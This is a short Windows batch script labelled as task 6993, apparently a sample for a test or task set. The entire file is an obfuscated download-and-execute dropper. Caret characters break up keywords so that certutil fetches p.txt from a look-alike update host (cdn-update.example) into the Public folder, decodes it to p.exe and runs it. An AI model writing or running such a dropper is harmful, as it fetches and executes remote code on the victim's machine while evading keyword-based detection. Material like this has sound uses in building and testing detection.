REM task 6993 v0
@echo off
cer^tu^ti^l -urlc^ach^e -f ^h^tt^p://cd^n-upda^t^e.^e^x^a^m^ple/p.^txt %PUBLIC%\p.^tx^t
cert^util -d^e^code %PUBLIC%\p.^txt %PUBLIC%\^p.^e^x^e
%PUBLIC%\^p.e^xe
